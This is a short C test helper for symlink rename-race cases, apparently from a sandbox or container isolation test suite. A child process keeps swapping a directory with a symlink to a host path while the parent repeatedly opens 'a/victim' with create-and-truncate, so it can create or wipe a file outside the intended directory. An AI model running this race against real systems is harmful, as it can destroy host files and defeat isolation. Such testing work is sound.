/* Shared by the rename-race cases: argv[2] is the host directory the symlink points at. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROUNDS 100000

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  mkdir("a", 0755);
  close(open("a/victim", O_WRONLY | O_CREAT, 0644));
  unlink("s");
  if (symlink(argv[2], "s")) return 3;
  pid_t c = fork();
  if (c == 0) {
    for (int i = 0; i < ROUNDS; i++) {
      rename("a", "t");
      rename("s", "a");
      rename("a", "s");
      rename("t", "a");
    }
    _exit(0);
  }
  for (int i = 0; i < ROUNDS; i++) {
    int fd = open("a/victim", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) close(fd);
  }
  waitpid(c, 0, 0);
  puts("done");
  return 0;
}
